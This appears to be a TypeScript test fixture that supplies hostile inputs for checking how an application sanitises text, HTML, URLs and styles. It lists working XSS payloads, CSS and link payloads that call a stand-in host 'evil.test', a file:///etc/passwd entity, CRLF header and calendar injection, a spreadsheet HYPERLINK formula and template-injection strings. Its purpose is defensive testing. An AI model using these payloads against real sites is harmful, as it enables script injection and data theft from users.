/** Set on the global object by any part of these that is ever run; whatever is loaded of them is asked of this host. */
export const MARK = 'owned';
export const FOREIGN = 'evil.test';

/** The id of everything that the attacker makes. */
export const ID = 'mal';

const run = `${MARK}=1`;
const elsewhere = `https://${FOREIGN}`;

/** What a curious editor types where words or HTML are asked for: each means harm in some place that shows it. */
const attacks: readonly string[] = [
  `"'><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `<!--<script>`,
  `</style><style>@import "${elsewhere}/a.css"; * { background: url(${elsewhere}/b) }</style>`,
  `<svg/onload=${run}><animate onbegin=${run}></svg>`,
  `<iframe src="javascript:parent.${run}" srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<form action="${elsewhere}/"><button formaction="${elsewhere}/">OK</button></form>`,
  `<a href="java&#9;script:${run}">a</a><a href="&#106;avaScript&colon;${run}">b</a><a href=" data:text/html,x">c</a>`,
  `<p style="background:u\\72l(${elsewhere}/c);width:expression(${run})" onclick=${run}>d</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<link rel=stylesheet href=${elsewhere}/d.css><object data=${elsewhere}/e></object><embed src=${elsewhere}/f>`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script><!ENTITY x SYSTEM "file:///etc/passwd">`,
  `\u2028\u2029\u202Eesrever\u2066\uFEFF שלום עולם`,
  `\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-EVIL:1\r\nBcc: all@${FOREIGN}\r\nSet-Cookie: a=b\r\n\r\n`,
  `=HYPERLINK("${elsewhere}","x")`,
  `${'W'.repeat(90)}{{constructor.constructor('${run}')()}}$\{${run}}`,
];

/** Words of an attacker, other ones first for each number, as many as there is room for. */
export function hostileText(nth: number, longest: number): string {
  const at = nth % attacks.length;
  const once = [...attacks.slice(at), ...attacks.slice(0, at)].join(' ');
  return once.repeat(Math.ceil(longest / once.length)).slice(0, longest);
}

/** What fits where words are short or of a pattern, the most harmful first. */
export const hostileWords: readonly string[] = [
  `"><svg/onload=${run}>`,
  `"><svg&onload=${run}>`,
  // Longer still once it is encoded.
  `/${'ש'.repeat(1900)}"><script>${run}<!script>.png`,
  `red;}*{background:url(`,
];

/** Addresses that run something, however they are shown. */
export const hostileScripts: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  `&#106;avascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `vbscript:${run}`,
  `blob:${elsewhere}/x`,
  `file:///etc/passwd`,
];

/** Those, and paths that browsers read as another host. */
export const hostileAddresses: readonly string[] = [
  ...hostileScripts,
  `//${FOREIGN}/x`,
  `/\\${FOREIGN}/x`,
  `/\t/${FOREIGN}/x`,
  `\\\\${FOREIGN}\\x`,
];

/** Declarations of an author's own style sheet. */
export const hostileStyles: readonly string[] = [
  `red; } </style><script>${run}</script>`,
  `@import url(${elsewhere}/g.css); .input { color: red }`,
  `:scope { background-image: url(${elsewhere}/h) } * { background: image-set("${elsewhere}/i" 1x) }`,
  `url("javascript:${run}")`,
  `u\\72l(${elsewhere}/j)`,
  `expression(${run})`,
  `x), (* { background: url(${elsewhere}/k) } } * {`,
  `@font-face { font-family: evil; src: url(${elsewhere}/l) } * { font-family: evil }`,
  `position: fixed; inset: 0; z-index: 2147483647`,
];
